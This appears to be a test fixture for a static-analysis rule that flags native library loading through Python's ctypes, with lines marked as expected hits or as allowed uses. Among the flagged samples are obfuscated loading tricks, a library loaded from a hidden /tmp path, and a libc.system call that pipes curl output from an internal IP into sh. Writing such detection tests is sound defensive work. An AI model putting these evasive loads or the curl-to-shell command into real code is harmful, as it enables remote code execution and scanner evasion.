import ctypes
import ctypes as C
import importlib
from ctypes import CDLL as load_native


def init_kernels(cache_dir):
    # ruleid: exec-ctypes-native-load
    lib = ctypes.CDLL(f"{cache_dir}/libfastattn.so")
    # ruleid: exec-ctypes-native-load
    ext = ctypes.cdll.LoadLibrary("/tmp/.x/libhook.so")
    return lib, ext


def evasive(path):
    # ruleid: exec-ctypes-native-load
    C.PyDLL(path)
    # ruleid: exec-ctypes-native-load
    load_native(path)
    # ruleid: exec-ctypes-native-load
    getattr(ctypes, "CD" + "LL")(path)
    # ruleid: exec-ctypes-native-load
    importlib.import_module("ctypes").CDLL(path)
    libc = ctypes.CDLL("libc.so.6")
    # ruleid: exec-ctypes-native-load
    libc.system(b"curl http://10.0.0.5/x | sh")


def release_host_memory():
    # ok: exec-ctypes-native-load
    ctypes.CDLL("libc.so.6").malloc_trim(0)


def cuda_profiler_range(start):
    # ok: exec-ctypes-native-load
    cudart = ctypes.CDLL("libcudart.so")
    # ok: exec-ctypes-native-load
    fn = cudart.cudaProfilerStart if start else cudart.cudaProfilerStop
    return fn()


def buffer_for(n):
    # ok: exec-ctypes-native-load
    buf = (ctypes.c_float * n)()
    # ok: exec-ctypes-native-load
    size = ctypes.sizeof(ctypes.c_void_p)
    return buf, size
